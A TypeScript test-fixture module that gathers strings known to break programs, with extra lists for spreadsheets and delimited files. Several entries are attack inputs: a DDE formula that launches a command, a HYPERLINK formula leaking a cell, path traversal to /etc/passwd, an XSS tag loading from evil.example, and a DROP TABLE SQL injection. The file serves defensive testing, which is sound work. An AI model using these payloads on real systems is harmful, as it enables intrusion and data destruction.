// Strings that have broken other programs: the published list, and what tables and spreadsheets add to it.
import { createRequire } from 'node:module';

const published = createRequire(import.meta.url)('big-list-of-naughty-strings') as string[];

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("http://example.org/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  "''=1+1",
  "'-5",
  "'＠x",
  "'\t=1",
  "'\n=1",
  "'\r\n=1",
  "'",
  "'''",
  "'tis",
  "O'Hara",
  '#REF!',
  '#N/A'
];

const DELIMITED = [
  'a,b',
  'a;b',
  'a\tb',
  'a|b',
  'say "so"',
  '"',
  '"""',
  '",",',
  'a"b"c',
  '\\"',
  '\\N',
  'sep=;',
  'a\nb',
  'a\r\nb',
  'a\rb',
  'a\n\nb',
  '\nb',
  'b\n',
  '\r\n',
  '',
  ' ',
  '\t',
  '\u00a0',
  ' \t\u00a0 ',
  '  padded  ',
  '\u00a0padded\u00a0',
  'in  side'
];

const CHARACTERS = [
  '\ufeff',
  '\ufeffNorth',
  'No\ufeffrth',
  '\ufffe',
  '\uffff',
  '\ufffd',
  'a\u0001b',
  'a\u000bb\u000cc',
  'a\u001fb',
  'a\u007fb',
  'a\u0085b',
  'a\u2028b\u2029c',
  '_x0041_',
  '_x000D_',
  '_x005F_x0041_',
  '&#0;',
  '&amp;lt;',
  ']]>',
  '<![CDATA[x]]>',
  '\u202eright to left',
  '\u200b\u200c\u200d\u2060',
  'e\u0301',
  '\u00e9',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  '\u{1f1ec}\u{1f1e7}',
  '\u{10ffff}',
  '\u0130\u0131ſﬃ'
];

const WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'unit_name',
  'Validation result',
  '2026-02-30',
  '30/09/2026',
  'SEPT1',
  '1-2',
  '1e309',
  '0x1F',
  '007',
  '..',
  '...',
  '.',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  'file:///etc/passwd',
  '%2e%2e%2f',
  '.hidden',
  '{{7*7}}',
  '${7*7}',
  '<b>bold</b>',
  '<img src=//evil.example/x onerror=alert(1)>',
  '{@html x}',
  "Robert'); DROP TABLE stg_units;--",
  'x'.repeat(64),
  'x'.repeat(65),
  'x'.repeat(200),
  'x'.repeat(201),
  '\u{1f600}'.repeat(200),
  '\u{1f600}'.repeat(201),
  `${'x'.repeat(78)}\u{1f600}\u{1f600}`,
  'x'.repeat(5000)
];

/** Each once. None has a NUL or half a character, which no file of text can hold. */
export const NAUGHTY: readonly string[] = [
  ...new Set([...published, ...FORMULAS, ...DELIMITED, ...CHARACTERS, ...WORDS])
];

/** As it is loaded: line ends as LF, without the blanks around it. */
export const asLoaded = (text: string): string =>
  text.replace(/\r\n?/g, '\n').replace(/^[ \t\u00a0]+|[ \t\u00a0]+$/g, '');
